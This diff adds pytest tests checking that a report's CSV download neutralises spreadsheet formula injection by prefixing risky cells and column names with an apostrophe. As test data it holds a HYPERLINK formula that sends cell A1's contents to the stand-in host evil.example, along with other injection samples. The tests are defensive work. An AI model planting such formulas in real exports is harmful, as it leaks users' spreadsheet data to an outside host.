@@ -122,3 +122,21 @@ def test_table_cells_numbers_years_and_missing_values():
         html_text
     )
     assert html_text.count("<th ") == 4 and "<thead>" in html_text and "<tbody>" in html_text
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_table_download_never_carries_a_formula_a_spreadsheet_would_run():
+    # Issue 12: an activity title like this ended up verbatim in the page's CSV download.
+    frame = pd.DataFrame(
+        {"Title": [FORMULA, "+cmd", "@SUM(A1)", "-2+3", "Workshop"], "Change (%)": [-5.5, 1, 2, 3, 4]}
+    )
+    csv = pd.read_csv(io.StringIO(_csv_of(report.format_table(frame, "Activities"))))
+    assert csv["Title"].tolist() == ["'" + FORMULA, "'+cmd", "'@SUM(A1)", "'-2+3", "Workshop"]
+    assert csv["Change (%)"].tolist() == [-5.5, 1, 2, 3, 4]  # numbers unchanged
+
+
+def test_table_download_neutralises_a_formula_in_a_column_name():
+    frame = pd.DataFrame({"=1+1": ["a"]})
+    assert _csv_of(report.format_table(frame, "X")).splitlines()[0] == "'=1+1"
